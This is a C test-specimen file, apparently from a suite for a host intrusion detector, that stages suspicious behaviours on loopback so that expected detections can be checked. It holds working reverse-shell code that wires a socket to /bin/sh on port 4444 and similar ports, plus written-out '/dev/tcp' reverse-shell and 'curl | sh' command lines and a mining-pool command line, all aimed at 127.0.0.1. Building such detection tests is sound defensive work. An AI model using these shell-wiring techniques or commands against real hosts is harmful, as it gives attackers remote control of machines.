/* SPDX-License-Identifier: MIT */
/* Wires: to ourselves, on loopback. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include "tests/specimens/specimen.h"

enum { CONNECTIONS = 30 };

static struct sockaddr_in loopback(uint16_t port)
{
    return (struct sockaddr_in){
        .sin_family = AF_INET,
        .sin_port = htons(port),
        .sin_addr.s_addr = htonl(INADDR_LOOPBACK),
    };
}

static int listen_on(uint16_t port, uint16_t *ret_port)
{
    struct sockaddr_in address = loopback(port);
    socklen_t length = sizeof address;
    int one = 1;
    int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

    if (listener < 0)
        specimen_skip("TCP");
    /* Else a connection of the last run would keep the port for a minute. */
    setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(listener, (struct sockaddr *)&address, sizeof address) != 0 ||
        listen(listener, CONNECTIONS) != 0 ||
        getsockname(listener, (struct sockaddr *)&address, &length) != 0) {
        close(listener);
        return -1;
    }
    *ret_port = ntohs(address.sin_port);
    return listener;
}

static int connect_to(uint16_t port, int flags)
{
    struct sockaddr_in address = loopback(port);
    int connection = socket(AF_INET, SOCK_STREAM | flags, 0);

    if (connection < 0 || connect(connection, (struct sockaddr *)&address, sizeof address) != 0)
        specimen_fail("connect");
    return connection;
}

/* The first of the ports that are watched by default which nobody has. */
static void prepare_watched(struct stage *stage)
{
    static const uint16_t watched[] = {4444, 3333, 5555, 6666, 7777, 8888};

    stage->listener = -1;
    for (size_t i = 0; stage->listener < 0 && i < sizeof watched / sizeof watched[0]; i++)
        stage->listener = listen_on(watched[i], &stage->port);
    if (stage->listener < 0)
        specimen_skip("every watched port is taken");
}

static void enter_socket_shell(struct stage *stage)
{
    int connection = connect_to(stage->port, 0);

    for (int fd = STDIN_FILENO; fd <= STDERR_FILENO; fd++)
        if (dup2(connection, fd) < 0)
            specimen_fail("dup2");
    if (connection > STDERR_FILENO)
        close(connection);
    stage_expect(stage, "watched_port", "127.0.0.1:%u", stage->port);
    stage_expect(stage, "no_tty", "%s", "");
    stage_expect(stage, "revshell_stdio", "127.0.0.1:%u", stage->port);
    execl("/bin/sh", "sh", (char *)NULL);
    specimen_fail("/bin/sh");
}

/* The parent is the other machine, and shall not look like a server of this one. */
static void finish_accepted(struct stage *stage)
{
    if (accept4(stage->listener, NULL, NULL, SOCK_CLOEXEC) < 0)
        specimen_fail("accept");
    close(stage->listener);
}

static void enter_holding_shell(struct stage *stage)
{
    connect_to(stage->port, 0);
    close(stage->listener);
    stage_expect(stage, "shell_conn", "127.0.0.1:%u", stage->port);
    specimen_run_shell("read line; echo $line");
}

static void enter_listening_shell(struct stage *stage)
{
    uint16_t port;
    int listener = listen_on(0, &port);

    if (listener < 0 || fcntl(listener, F_SETFD, 0) != 0)
        specimen_skip("no port to listen on");
    stage_expect(stage, "listen_shell", "127.0.0.1:%u", port);
    specimen_run_shell("read line; echo $line");
}

static void enter_wiring(struct stage *stage)
{
    stage_expect(stage, "revshell_cmdline", "/dev/tcp/");
    specimen_run_shell("read line; exit; sh -i >& /dev/tcp/127.0.0.1/9 0>&1");
}

static void enter_fetching(struct stage *stage)
{
    stage_expect(stage, "pipe_exec", "curl into a shell");
    specimen_run_shell("read line; exit; curl -s http://127.0.0.1:9/ | sh");
}

static void enter_mining(struct stage *stage)
{
    const char *self = specimen_path();

    stage_expect(stage, "miner_cmdline", "stratum+tcp://");
    execl(self, self, "wait", "stratum+tcp://127.0.0.1:9", (char *)NULL);
    specimen_fail(self);
}

static void enter_served_shell(struct stage *stage)
{
    stage_expect(stage, "server_shell", "127.0.0.1:%u", stage->port);
    specimen_run_shell("read line; echo $line");
}

/* The parent has a connection to somewhere. */
static void connect_parent(struct stage *stage)
{
    stage->listener = listen_on(0, &stage->port);
    if (stage->listener < 0)
        specimen_skip("no port to listen on");
    connect_to(stage->port, SOCK_CLOEXEC);
    finish_accepted(stage);
}

static void run_shell_between(int input, int output)
{
    if (dup2(input, STDIN_FILENO) < 0 || dup2(output, STDOUT_FILENO) < 0)
        specimen_fail("dup2");
    execl("/bin/sh", "sh", (char *)NULL);
    specimen_fail("/bin/sh");
}

static void prepare_piped(struct stage *stage)
{
    int input[2], output[2];

    connect_parent(stage);
    if (pipe2(input, O_CLOEXEC) != 0 || pipe2(output, O_CLOEXEC) != 0)
        specimen_fail("pipe");
    stage->wires[0] = input[0];
    stage->wires[1] = output[1];
}

static void prepare_paired(struct stage *stage)
{
    int ends[2];

    connect_parent(stage);
    if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, ends) != 0)
        specimen_fail("socketpair");
    stage->wires[0] = stage->wires[1] = ends[0];
}

static void enter_relayed_shell(struct stage *stage)
{
    stage_expect(stage, "no_tty", "%s", "");
    stage_expect(stage, "shell_relay", "127.0.0.1:%u", stage->port);
    run_shell_between(stage->wires[0], stage->wires[1]);
}

static void prepare_terminal(struct stage *stage)
{
    connect_parent(stage);
    stage->wires[0] = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (stage->wires[0] < 0 || grantpt(stage->wires[0]) != 0 || unlockpt(stage->wires[0]) != 0)
        specimen_skip("no pseudoterminal");
}

static void enter_terminal_shell(struct stage *stage)
{
    char name[64];
    int terminal;

    if (ptsname_r(stage->wires[0], name, sizeof name) != 0 ||
        (terminal = open(name, O_RDWR | O_NOCTTY)) < 0 || ioctl(terminal, TIOCSCTTY, 0) != 0)
        specimen_skip(name);
    for (int fd = STDIN_FILENO; fd <= STDERR_FILENO; fd++)
        if (dup2(terminal, fd) < 0)
            specimen_fail("dup2");
    close(terminal);
    close(stage->wires[0]);
    stage_expect(stage, "pty_relay", "%s", name);
    execl("/bin/sh", "sh", (char *)NULL);
    specimen_fail("/bin/sh");
}

static void prepare_crowd(struct stage *stage)
{
    stage->listener = listen_on(0, &stage->port);
    if (stage->listener < 0)
        specimen_skip("no port to listen on");
}

static void enter_crowd(struct stage *stage)
{
    close(stage->listener);
    for (int i = 0; i < CONNECTIONS; i++)
        connect_to(stage->port, SOCK_CLOEXEC);
    stage_expect(stage, "many_conns", "%d", CONNECTIONS);
}

/* Addresses of documentation (RFC 5737). Nothing is sent by connecting UDP. */
static void enter_fanned_out(struct stage *stage)
{
    for (int host = 1; host <= CONNECTIONS; host++) {
        struct sockaddr_in address = loopback(9);
        int connection = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

        address.sin_addr.s_addr = htonl(0xc0000200 + (uint32_t)host);
        if (connection < 0 ||
            connect(connection, (struct sockaddr *)&address, sizeof address) != 0)
            specimen_skip("no route to 192.0.2.1");
    }
    stage_expect(stage, "many_conns", "%d", CONNECTIONS);
    stage_expect(stage, "conn_fanout", "%d hosts", CONNECTIONS);
}

static const struct specimen rows[] = {
    {"shell",       "a shell on a socket to a watched port", prepare_watched,  enter_socket_shell,
     finish_accepted                                                                                      },
    {"holding",     "a shell with a connection",             prepare_crowd,    enter_holding_shell,
     finish_accepted                                                                                      },
    {"listening",   "a shell that listens",                  NULL,             enter_listening_shell, NULL},
    {"served",      "a shell below what listens",            prepare_crowd,    enter_served_shell,    NULL},
    {"relayed",     "a shell between two pipes",             prepare_piped,    enter_relayed_shell,   NULL},
    {"paired",      "a shell on a pair of sockets",          prepare_paired,   enter_relayed_shell,   NULL},
    {"terminal",    "a shell on another's terminal",         prepare_terminal, enter_terminal_shell,  NULL},
    {"wiring",      "wires a shell to the network",          NULL,             enter_wiring,          NULL},
    {"fetching",    "runs what it downloads",                NULL,             enter_fetching,        NULL},
    {"mining",      "a miner's command line",                NULL,             enter_mining,          NULL},
    {"connections", "many outbound connections",             prepare_crowd,    enter_crowd,           NULL},
    {"fanning",     "connected to many hosts",               NULL,             enter_fanned_out,      NULL},
};

const struct specimen_table specimens_wires = {rows, sizeof rows / sizeof *rows};
